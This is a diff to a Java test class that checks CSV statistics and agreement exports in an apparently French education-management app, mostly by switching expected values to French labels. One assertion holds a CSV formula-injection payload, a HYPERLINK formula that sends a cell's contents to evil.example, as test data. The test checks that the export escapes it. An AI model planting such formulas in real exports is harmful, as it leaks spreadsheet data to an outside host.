@@ -109,8 +109,9 @@ class DirectorateTest {
         assertTrue(r.contentType().startsWith("text/csv"));
         String[] lines = new String(r.asByteArray(), StandardCharsets.UTF_8).replace("\uFEFF", "").split("\r\n");
         assertEquals("Centre;Sexe;Inscrits;En cours;Achevés;Abandons;Insérés;Taux d'insertion;Masqué", lines[0]);
-        assertEquals(List.of(fx.code(fx.c1) + ";FEMALE;6;2;2;2;3;0.75;false", fx.code(fx.c1) + ";MALE;5;2;3;0;1;0.3333333333333333;false",
-                fx.code(fx.c2) + ";MALE;3;0;3;0;3;1.0;false"), List.of(lines).subList(1, lines.length));
+        // enum values are written as the French labels the import template reads back (F / M)
+        assertEquals(List.of(fx.code(fx.c1) + ";F;6;2;2;2;3;0.75;false", fx.code(fx.c1) + ";M;5;2;3;0;1;0.3333333333333333;false",
+                fx.code(fx.c2) + ";M;3;0;3;0;3;1.0;false"), List.of(lines).subList(1, lines.length));
         try (Connection c = dataSource.getConnection(); PreparedStatement ps = c.prepareStatement(
                 "SELECT changes->>'rows', role FROM audit_event WHERE action = 'EXPORT' AND entity = 'Statistics' "
                         + "AND changes->>'schoolYear' = ? AND changes->>'format' = 'csv'")) {
@@ -142,7 +143,7 @@ class DirectorateTest {
                 .get("/exports/agreements.csv?status=active,suspended");
         assertEquals(200, r.statusCode());
         String csv = new String(r.asByteArray(), StandardCharsets.UTF_8);
-        assertTrue(csv.contains(fx.g2Ref() + ";CENTER_MANAGEMENT;ACTIVE;CS;Stats A2;" + fx.a2Reg()), csv);
+        assertTrue(csv.contains(fx.g2Ref() + ";gestion de centre;active;CS;Stats A2;" + fx.a2Reg()), csv);
         assertFalse(csv.contains(fx.g1Ref()), "another academy's agreement is out of scope");
     }
 
@@ -164,7 +165,7 @@ class DirectorateTest {
         assertEquals(200, csv.statusCode());
         String[] lines = new String(csv.asByteArray(), StandardCharsets.UTF_8).split("\r\n");
         assertEquals(2, lines.length);
-        assertTrue(lines[1].startsWith("'" + reference + ";FRAMEWORK;DRAFT;CS;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,"
+        assertTrue(lines[1].startsWith("'" + reference + ";convention-cadre;brouillon;CS;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,"
                 + "\"\"ok\"\")\";'" + registration + ";;"), lines[1]);
 
         Response xlsx = given().header("Authorization", "Bearer " + Tokens.admin())
